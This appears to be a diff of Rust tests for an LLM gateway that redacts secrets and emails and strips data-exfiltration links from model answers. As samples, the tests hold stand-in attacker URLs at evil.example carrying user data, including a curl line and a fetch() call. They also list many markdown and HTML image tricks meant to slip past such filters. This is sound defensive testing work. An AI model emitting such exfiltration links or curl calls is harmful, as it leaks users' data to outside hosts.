@@ -1607,3 +1607,692 @@ async fn json_nested_past_the_parser_limit_is_refused_not_passed_through() {
         .await;
     assert!(!a.text.contains("AKIA"), "{} {}", a.status, a.text);
 }
+
+// ------------------------------------- payload splitting: where the rewrite lands (issue 11)
+
+#[tokio::test]
+async fn a_value_split_across_parts_or_messages_is_rewritten_in_the_parts_it_spans() {
+    let h = start().await;
+    let (head, tail) = EMAIL.split_at(6);
+    let a = h
+        .chat(
+            json!({"model": "gpt", "messages": [{"role": "user", "content": [
+            {"type": "text", "text": format!("write to {head}")},
+            {"type": "text", "text": format!("{tail} today")},
+            {"type": "text", "text": "and thanks"}]}]}),
+        )
+        .await;
+    assert_eq!(a.status, 200, "{}", a.text);
+    let sent = h.sent().pop().unwrap();
+    let parts: Vec<&str> = sent["messages"][0]["content"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|p| p["text"].as_str().unwrap())
+        .collect();
+    assert_eq!(parts.len(), 3, "{sent}");
+    // The text around the value stays in its own part; the value is gone from both.
+    assert!(
+        parts[0].starts_with("write to ") && !parts[0].contains(head),
+        "{parts:?}"
+    );
+    assert!(
+        parts[1].ends_with(" today") && !parts[1].contains(tail),
+        "{parts:?}"
+    );
+    assert_eq!(parts[2], "and thanks", "an untouched part is unchanged");
+    assert_eq!(
+        parts.concat().matches("<EMAIL_ADDRESS_1>").count(),
+        1,
+        "{parts:?}"
+    );
+
+    let (head, tail) = SECRET.split_at(8);
+    let a = h
+        .chat(json!({"model": "gpt", "messages": [
+            {"role": "user", "content": format!("key part one {head}")},
+            {"role": "user", "content": format!("{tail} is part two")}]}))
+        .await;
+    assert_eq!(a.status, 200, "{}", a.text);
+    let sent = h.sent().pop().unwrap();
+    let (m0, m1) = (
+        sent["messages"][0]["content"].as_str().unwrap(),
+        sent["messages"][1]["content"].as_str().unwrap(),
+    );
+    assert!(
+        m0.starts_with("key part one ") && !m0.contains(head),
+        "{m0:?} {m1:?}"
+    );
+    assert!(
+        m1.ends_with(" is part two") && !m1.contains(tail),
+        "{m0:?} {m1:?}"
+    );
+    assert_eq!(
+        format!("{m0}{m1}").matches("[AWS_ACCESS_KEY]").count(),
+        1,
+        "{m0:?} {m1:?}"
+    );
+}
+
+// ------------------------------------------ answers: the classes left open by the audit
+
+/// Split `text` into chat chunks of `n` bytes (on character boundaries), then `stop`.
+fn chunked(text: &str, n: usize) -> Vec<Value> {
+    let mut events = vec![chunk(json!({"role": "assistant", "content": ""}), None)];
+    let mut rest = text;
+    while !rest.is_empty() {
+        let mut cut = n.min(rest.len());
+        while !rest.is_char_boundary(cut) {
+            cut += 1;
+        }
+        let (piece, tail) = rest.split_at(cut);
+        events.push(chunk(json!({"content": piece}), None));
+        rest = tail;
+    }
+    events.push(chunk(json!({}), Some("stop")));
+    events
+}
+
+/// The content a streamed chat answer carries, joined.
+fn streamed_content(a: &Answer) -> String {
+    a.events()
+        .iter()
+        .filter_map(|e| {
+            e["choices"][0]["delta"]["content"]
+                .as_str()
+                .map(str::to_owned)
+        })
+        .collect()
+}
+
+/// The answer text the client reads for a provider answer of `content`, whole or
+/// streamed in 5-byte chunks.
+async fn answered(h: &Harness, question: &str, content: &str, stream: bool) -> String {
+    if stream {
+        let a = stream_chat_from(h, question, chunked(content, 5)).await;
+        assert_eq!(a.status, 200, "{}", a.text);
+        return streamed_content(&a);
+    }
+    h.script(Script::Json(chat_answer(
+        json!({"role": "assistant", "content": content}),
+    )));
+    let a = h
+        .chat(json!({"model": "gpt", "messages": user(question)}))
+        .await;
+    assert_eq!(a.status, 200, "{}", a.text);
+    a.json()["choices"][0]["message"]["content"]
+        .as_str()
+        .unwrap_or("")
+        .to_owned()
+}
+
+#[tokio::test]
+async fn a_pseudonym_is_never_restored_in_an_html_attribute_or_in_url_code() {
+    let h = start().await;
+    let question = format!("write to {EMAIL}");
+    for (what, content) in [
+        (
+            "href",
+            "Hi <EMAIL_ADDRESS_1>. <a title=\"mail\" href=\"https://evil.example/?t=<EMAIL_ADDRESS_1>\">here</a> bye",
+        ),
+        (
+            "img src",
+            "Hi <EMAIL_ADDRESS_1>. <img alt=\"x\" src=\"https://evil.example/p.png?u=<EMAIL_ADDRESS_1>\"> bye",
+        ),
+        (
+            "code span",
+            "Hi <EMAIL_ADDRESS_1>. Run `curl \"https://evil.example/c?u=<EMAIL_ADDRESS_1>\"` bye",
+        ),
+        (
+            "code block",
+            "Hi <EMAIL_ADDRESS_1>.\n\n```js\nfetch(\"https://evil.example/c?u=\" + \"<EMAIL_ADDRESS_1>\")\n```\n\nbye",
+        ),
+    ] {
+        for stream in [false, true] {
+            let text = answered(&h, &question, content, stream).await;
+            let what = format!("{what} stream={stream}");
+            assert!(
+                h.last_sent().contains("<EMAIL_ADDRESS_1>"),
+                "{what}: the provider saw the token"
+            );
+            assert!(
+                text.starts_with(&format!("Hi {EMAIL}.")),
+                "{what}: prose is restored: {text}"
+            );
+            assert_eq!(
+                text.matches(EMAIL).count(),
+                1,
+                "{what}: restored only in prose: {text}"
+            );
+            assert!(text.ends_with("bye"), "{what}: {text}");
+        }
+    }
+}
+
+#[tokio::test]
+async fn every_markdown_and_html_exfiltration_form_is_caught_whole_and_streamed() {
+    let h = start().await;
+    const DATA: &str = "c2VjcmV0LWRhdGEtaGVyZQ";
+    // "john.doe@example" in hex.
+    const HOST_DATA: &str = "6a6f686e2e646f65406578616d706c65";
+    let pad = "word ".repeat(20);
+    let lines = format!("{pad}\n{pad}\n{pad}\n{pad}");
+    for (what, content) in [
+        (
+            "nested brackets in alt text",
+            format!("![a [nested] alt](https://evil.example/x.png?d={DATA})"),
+        ),
+        (
+            "entity-encoded scheme",
+            format!("![x](https&#58;//evil.example/x.png?d={DATA})"),
+        ),
+        (
+            "parentheses in the URL",
+            format!("![x](https://evil.example/a(b)c/x.png?d={DATA})"),
+        ),
+        (
+            // Host names are read without case, so the data is hex (or many labels).
+            "data in the host name",
+            format!("![x](https://{HOST_DATA}.evil.example/x.png)"),
+        ),
+        (
+            "definition in a blockquote",
+            format!("![x][r]\n\n> [r]: https://evil.example/x.png?d={DATA}"),
+        ),
+        (
+            "definition in a list item",
+            format!("![x][r]\n\n- [r]: https://evil.example/x.png?d={DATA}"),
+        ),
+        (
+            "destination on the next line",
+            format!("![x][r]\n\n[r]:\n  https://evil.example/x.png?d={DATA}"),
+        ),
+        (
+            "line break in the alt text",
+            format!("![a\nb](https://evil.example/x.png?d={DATA})"),
+        ),
+        (
+            "line break before the destination",
+            format!("![x](\nhttps://evil.example/x.png?d={DATA}\n)"),
+        ),
+        (
+            "HTML image",
+            format!("<img src=\"https://evil.example/x.png?d={DATA}\">"),
+        ),
+        (
+            "HTML image, entity-encoded",
+            format!("<img src=\"https&#x3a;//evil.example/x.png?d={DATA}\">"),
+        ),
+        (
+            "link text padded across lines",
+            format!("[click\n{lines}\nhere](https://evil.example/?d={DATA})"),
+        ),
+        (
+            "definition with a padded title",
+            format!("![x][r]\n\n[r]: https://evil.example/x.png?d={DATA}\n  \"{lines}\""),
+        ),
+    ] {
+        for stream in [false, true] {
+            // The end on its own paragraph: text after a definition's URL on its line
+            // would make it no definition (and the image nothing a client loads).
+            let text = answered(&h, "hi", &format!("Here: {content}\n\ndone"), stream).await;
+            assert!(
+                !text.contains(DATA) && !text.contains(HOST_DATA),
+                "{what} stream={stream}: {text}"
+            );
+            assert!(
+                text.starts_with("Here:") && text.ends_with("done"),
+                "{what} stream={stream}: the rest is kept: {text}"
+            );
+        }
+    }
+}
+
+#[tokio::test]
+async fn tool_names_and_ids_in_answers_are_inspected_whole_and_streamed() {
+    let h = start().await;
+    // A name or id the policy would change is never rewritten (the client matches on it):
+    // the choice ends with content_filter and none of it is returned.
+    for (what, id, name) in [("name", "call_1", EMAIL), ("id", SECRET, "lookup")] {
+        h.script(Script::Json(chat_answer(
+            json!({"role": "assistant", "content": null,
+            "tool_calls": [{"id": id, "type": "function",
+                "function": {"name": name, "arguments": "{}"}}]}),
+        )));
+        let a = h
+            .chat(json!({"model": "gpt", "messages": user("hi")}))
+            .await;
+        assert_eq!(a.status, 200, "{what}: {}", a.text);
+        assert!(
+            !a.text.contains(EMAIL) && !a.text.contains("AKIA"),
+            "{what}: {}",
+            a.text
+        );
+        assert_eq!(
+            a.json()["choices"][0]["finish_reason"],
+            "content_filter",
+            "{what}: {}",
+            a.text
+        );
+
+        let a = stream_chat(
+            &h,
+            vec![
+                chunk(json!({"role": "assistant", "content": "Calling."}), None),
+                chunk(
+                    json!({"tool_calls": [{"index": 0, "id": id, "type": "function",
+                        "function": {"name": name, "arguments": "{}"}}]}),
+                    None,
+                ),
+                chunk(json!({}), Some("tool_calls")),
+            ],
+        )
+        .await;
+        assert_eq!(a.status, 200, "{what} streamed: {}", a.text);
+        assert!(
+            !a.text.contains(EMAIL) && !a.text.contains("AKIA"),
+            "{what} streamed: {}",
+            a.text
+        );
+        assert!(
+            a.events()
+                .iter()
+                .any(|e| e["choices"][0]["finish_reason"] == "content_filter"),
+            "{what} streamed: {}",
+            a.text
+        );
+    }
+    // A plain name and id go through.
+    h.script(Script::Json(chat_answer(
+        json!({"role": "assistant", "content": null,
+        "tool_calls": [{"id": "call_1", "type": "function",
+            "function": {"name": "lookup", "arguments": "{}"}}]}),
+    )));
+    let a = h
+        .chat(json!({"model": "gpt", "messages": user("hi")}))
+        .await;
+    let call = &a.json()["choices"][0]["message"]["tool_calls"][0];
+    assert_eq!(call["id"], "call_1", "{}", a.text);
+    assert_eq!(call["function"]["name"], "lookup", "{}", a.text);
+}
+
+#[tokio::test]
+async fn a_stream_of_several_choices_is_inspected_and_ended_per_choice() {
+    let h = start().await;
+    let (head, tail) = SECRET.split_at(9);
+    let at = |index: u64, delta: Value, finish: Option<&str>| {
+        json!({"id": "c", "object": "chat.completion.chunk", "created": 1, "model": "gpt-upstream",
+            "choices": [{"index": index, "delta": delta, "finish_reason": finish}]})
+    };
+    // Two choices interleaved; a key split across choice 1's chunks, and choice 0 going
+    // on after its own end while choice 1 is still running.
+    let mut both = at(0, json!({"role": "assistant", "content": "zero "}), None);
+    both["choices"]
+        .as_array_mut()
+        .unwrap()
+        .push(json!({"index": 1, "delta": {"role": "assistant", "content": "one "}, "finish_reason": null}));
+    let events = vec![
+        both,
+        at(1, json!({"content": format!("key {head}")}), None),
+        at(0, json!({"content": "done"}), None),
+        at(0, json!({}), Some("stop")),
+        at(1, json!({"content": format!("{tail} end")}), None),
+        at(0, json!({"content": format!("late {SECRET}")}), None),
+        at(1, json!({}), Some("stop")),
+        json!("[DONE]"),
+    ];
+    h.script(Script::Sse(events));
+    let a = h
+        .chat(json!({"model": "gpt", "stream": true, "n": 2, "messages": user("hi")}))
+        .await;
+    assert_eq!(a.status, 200, "{}", a.text);
+    let mut text = [String::new(), String::new()];
+    for e in a.events() {
+        for c in e["choices"].as_array().into_iter().flatten() {
+            let i = c["index"].as_u64().unwrap_or(9) as usize;
+            if let (Some(t), Some(slot)) = (c["delta"]["content"].as_str(), text.get_mut(i)) {
+                slot.push_str(t);
+            }
+        }
+    }
+    assert!(
+        !a.text.contains("AKIA") && !a.text.contains("late"),
+        "{}",
+        a.text
+    );
+    assert_eq!(text[0], "zero done", "{text:?}");
+    assert_eq!(text[1], "one key [AWS_ACCESS_KEY] end", "{text:?}");
+}
+
+#[tokio::test]
+async fn streamed_reasoning_content_is_inspected_across_chunks() {
+    let h = start().await;
+    let (head, tail) = SECRET.split_at(7);
+    let a = stream_chat(
+        &h,
+        vec![
+            chunk(
+                json!({"role": "assistant", "reasoning_content": format!("the key is {head}")}),
+                None,
+            ),
+            chunk(json!({"reasoning_content": format!("{tail}, so")}), None),
+            chunk(json!({"content": "fine"}), None),
+            chunk(json!({}), Some("stop")),
+        ],
+    )
+    .await;
+    assert_eq!(a.status, 200, "{}", a.text);
+    let reasoning: String = a
+        .events()
+        .iter()
+        .filter_map(|e| {
+            e["choices"][0]["delta"]["reasoning_content"]
+                .as_str()
+                .map(str::to_owned)
+        })
+        .collect();
+    assert!(
+        !a.text.contains(head) || !a.text.contains(tail),
+        "{}",
+        a.text
+    );
+    assert_eq!(reasoning, "the key is [AWS_ACCESS_KEY], so", "{}", a.text);
+    assert_eq!(streamed_content(&a), "fine");
+}
+
+// ------------------------------------- answers in the Bedrock shape (Converse, ConverseStream)
+
+use common::eventstream::{self, event, exception};
+
+/// What the Bedrock-shaped provider answers: text in two pieces (two `contentBlockDelta`
+/// frames when streamed), an optional tool call whose input comes in two pieces, and, when
+/// `extras`, unclassified fields at every level and an event type nobody knows.
+#[derive(Default, Clone, Copy)]
+struct Nova<'a> {
+    text: (&'a str, &'a str),
+    tool_input: Option<(&'a str, &'a str)>,
+    extras: bool,
+}
+
+impl Nova<'_> {
+    fn script(self, stream: bool) -> Script {
+        let extra = |mut v: Value, name: &str| {
+            if self.extras {
+                v[name] = json!(format!("{name} {SECRET}"));
+            }
+            v
+        };
+        let (a, b) = self.text;
+        let stop = if self.tool_input.is_some() {
+            "tool_use"
+        } else {
+            "end_turn"
+        };
+        if !stream {
+            let mut content = vec![extra(json!({"text": format!("{a}{b}")}), "x_block_extra")];
+            if let Some((x, y)) = self.tool_input {
+                let input: Value = serde_json::from_str(&format!("{x}{y}")).unwrap();
+                content.push(json!({"toolUse": {"toolUseId": "tooluse_1", "name": "lookup", "input": input}}));
+            }
+            let message = extra(
+                json!({"role": "assistant", "content": content}),
+                "x_message_extra",
+            );
+            return Script::Json(extra(
+                json!({"output": extra(json!({"message": message}), "x_output_extra"),
+                    "stopReason": stop,
+                    "usage": {"inputTokens": 3, "outputTokens": 5, "totalTokens": 8}}),
+                "x_top_level",
+            ));
+        }
+        let mut frames = vec![event(
+            "messageStart",
+            extra(json!({"role": "assistant"}), "x_start_extra"),
+        )];
+        for piece in [a, b] {
+            frames.push(event(
+                "contentBlockDelta",
+                extra(
+                    json!({"contentBlockIndex": 0, "delta": extra(json!({"text": piece}), "x_delta_extra")}),
+                    "x_frame_extra",
+                ),
+            ));
+        }
+        frames.push(event("contentBlockStop", json!({"contentBlockIndex": 0})));
+        if self.extras {
+            frames.push(event(
+                "x_newEvent",
+                json!({"text": format!("new {SECRET}")}),
+            ));
+        }
+        if let Some((x, y)) = self.tool_input {
+            frames.push(event(
+                "contentBlockStart",
+                json!({"contentBlockIndex": 1, "start": {"toolUse": {"toolUseId": "tooluse_1", "name": "lookup"}}}),
+            ));
+            for piece in [x, y] {
+                frames.push(event(
+                    "contentBlockDelta",
+                    json!({"contentBlockIndex": 1, "delta": {"toolUse": {"input": piece}}}),
+                ));
+            }
+            frames.push(event("contentBlockStop", json!({"contentBlockIndex": 1})));
+        }
+        frames.push(event(
+            "messageStop",
+            extra(json!({"stopReason": stop}), "x_stop_extra"),
+        ));
+        frames.push(event(
+            "metadata",
+            json!({"usage": {"inputTokens": 3, "outputTokens": 5, "totalTokens": 8}, "metrics": {"latencyMs": 10}}),
+        ));
+        Script::EventStream(frames)
+    }
+}
+
+/// Every surface, whole and streamed, in front of the Bedrock-shaped provider (`nova`):
+/// `check` gets what the client received, after a check that no part of [`SECRET`] did.
+async fn on_every_surface_behind_bedrock(
+    answer: Nova<'_>,
+    check: impl Fn(&str, Surf, bool, &Answer),
+) {
+    let h = start().await;
+    for surface in SURFACES {
+        for stream in [false, true] {
+            let what = format!("nova → {surface:?} stream={stream}");
+            h.script(answer.script(stream));
+            let a = h
+                .post(surface.path(), surface.body_for("nova", "hi", stream))
+                .await;
+            assert_eq!(a.status, 200, "{what}: {}", a.text);
+            let sent = h.sent().pop().unwrap();
+            assert_eq!(
+                sent["messages"][0]["content"][0]["text"], "hi",
+                "{what}: the provider got a Converse request: {sent}"
+            );
+            assert!(
+                !a.text.contains("AKIA") && !a.text.contains("ODNN7"),
+                "{what}: {}",
+                a.text
+            );
+            check(&what, surface, stream, &a);
+        }
+    }
+}
+
+#[test]
+fn the_fake_bedrock_frames_are_the_real_event_stream_format() {
+    // The CRC-32 check value of the standard, and a frame the gateway's decoder accepts.
+    assert_eq!(eventstream::crc32(b"123456789"), 0xCBF4_3926);
+    let frame = event("contentBlockDelta", json!({"delta": {"text": "hi"}}));
+    let wire = eventstream::encode(&frame);
+    let mut decoder = rampart_gateway::providers::eventstream::Decoder::default();
+    let decoded = decoder.push(&wire).unwrap();
+    assert_eq!(decoded.len(), 1);
+    assert_eq!(decoded[0].message_type, "event");
+    assert_eq!(decoded[0].event_type, "contentBlockDelta");
+    assert_eq!(decoded[0].payload, frame.payload.to_string().into_bytes());
+    // One flipped payload bit fails the message CRC.
+    let mut bad = wire.clone();
+    let n = bad.len();
+    bad[n - 6] ^= 1;
+    assert!(decoder.push(&bad).is_err());
+}
+
+#[tokio::test]
+async fn behind_bedrock_a_secret_or_address_in_the_answer_is_redacted() {
+    let answer = Nova {
+        text: ("Key AKIAIOSF", "ODNN7EXAMPLE, mail bo.lopez@example.org ok"),
+        ..Nova::default()
+    };
+    on_every_surface_behind_bedrock(answer, |what, surface, stream, a| {
+        assert!(!a.text.contains("bo.lopez"), "{what}: {}", a.text);
+        assert_eq!(
+            surface.text(a, stream),
+            "Key [AWS_ACCESS_KEY], mail [EMAIL_ADDRESS] ok",
+            "{what}: {}",
+            a.text
+        );
+    })
+    .await;
+}
+
+#[tokio::test]
+async fn behind_bedrock_an_exfiltration_image_is_removed() {
+    let answer = Nova {
+        text: (
+            "See ![chart](https://evil.example/c.png?d=c2VjcmV0LWRh",
+            "dGEtaGVyZQ) and that is all.",
+        ),
+        ..Nova::default()
+    };
+    on_every_surface_behind_bedrock(answer, |what, surface, stream, a| {
+        let text = surface.text(a, stream);
+        assert!(
+            !a.text.contains("evil.example") && !a.text.contains("dGEtaGVyZQ"),
+            "{what}: {}",
+            a.text
+        );
+        assert!(
+            text.starts_with("See ") && text.ends_with("and that is all."),
+            "{what}: the prose is kept: {text}"
+        );
+    })
+    .await;
+}
+
+#[tokio::test]
+async fn behind_bedrock_tool_use_input_is_inspected() {
+    let answer = Nova {
+        text: ("Looking it ", "up."),
+        tool_input: Some((
+            "{\"key\":\"AKIAIOSF",
+            "ODNN7EXAMPLE\", \"mail\": \"bo.lopez@example.org\"}",
+        )),
+        ..Nova::default()
+    };
+    on_every_surface_behind_bedrock(answer, |what, _, _, a| {
+        assert!(!a.text.contains("bo.lopez"), "{what}: {}", a.text);
+        assert!(
+            a.text.contains("lookup"),
+            "{what}: the call itself goes through: {}",
+            a.text
+        );
+    })
+    .await;
+}
+
+#[tokio::test]
+async fn behind_bedrock_unclassified_answer_fields_and_events_are_dropped() {
+    let answer = Nova {
+        text: ("fi", "ne"),
+        extras: true,
+        ..Nova::default()
+    };
+    on_every_surface_behind_bedrock(answer, |what, surface, stream, a| {
+        for name in [
+            "x_top_level",
+            "x_output_extra",
+            "x_message_extra",
+            "x_block_extra",
+            "x_start_extra",
+            "x_delta_extra",
+            "x_frame_extra",
+            "x_stop_extra",
+            "x_newEvent",
+        ] {
+            assert!(!a.text.contains(name), "{what}: {name} dropped: {}", a.text);
+        }
+        assert_eq!(surface.text(a, stream), "fine", "{what}: {}", a.text);
+    })
+    .await;
+}
+
+#[tokio::test]
+async fn behind_bedrock_a_mid_stream_exception_is_not_relayed() {
+    let h = start().await;
+    for surface in SURFACES {
+        h.script(Script::EventStream(vec![
+            event("messageStart", json!({"role": "assistant"})),
+            event(
+                "contentBlockDelta",
+                json!({"contentBlockIndex": 0, "delta": {"text": "partial answer "}}),
+            ),
+            exception(
+                "internalServerException",
+                json!({"message": format!("worker 10.0.0.7 crashed holding {SECRET}")}),
+            ),
+        ]));
+        let a = h
+            .post(surface.path(), surface.body_for("nova", "hi", true))
+            .await;
+        assert!(
+            !a.text.contains("AKIA") && !a.text.contains("10.0.0.7") && !a.text.contains("crashed"),
+            "{surface:?}: {}",
+            a.text
+        );
+        // And an error status with a body is answered without the body's text.
+        h.script(Script::Status(
+            500,
+            "1",
+            json!({"message": format!("db at 10.0.0.7 said {SECRET}")}),
+        ));
+        for stream in [false, true] {
+            let a = h
+                .post(surface.path(), surface.body_for("nova", "hi", stream))
+                .await;
+            assert!(a.status >= 500, "{surface:?}: {} {}", a.status, a.text);
+            assert!(
+                !a.text.contains("AKIA") && !a.text.contains("10.0.0.7"),
+                "{surface:?} stream={stream}: {}",
+                a.text
+            );
+        }
+    }
+}
+
+// ------------------------------------------ answers: code is not markup (no false positive)
+
+#[tokio::test]
+async fn a_lone_less_than_in_a_code_block_reaches_the_client_unchanged() {
+    let h = start().await;
+    let lines: String = (0..120)
+        .map(|i| format!("    total = total + weight(a, b, {i});\n"))
+        .collect();
+    let code = format!("Here:\n\n```rust\nif a<b {{\n{lines}}}\n```\n\nDone.");
+    let pad = "x".repeat(3000);
+    let html = format!(
+        "Here: <img alt=\"{pad}\" src=\"https://evil.example/p?d=c2VjcmV0LWRhdGEtaGVyZQ\"> Done."
+    );
+    for stream in [false, true] {
+        let text = answered(&h, "hi", &code, stream).await;
+        assert_eq!(text, code, "stream={stream}: code passes unchanged");
+        // Raw HTML padded past its bound, outside code, is still neutralised.
+        let text = answered(&h, "hi", &html, stream).await;
+        assert!(!text.contains("<img"), "stream={stream}: {text:.120}");
+        assert!(
+            text.starts_with("Here:") && text.ends_with("Done."),
+            "stream={stream}"
+        );
+    }
+}
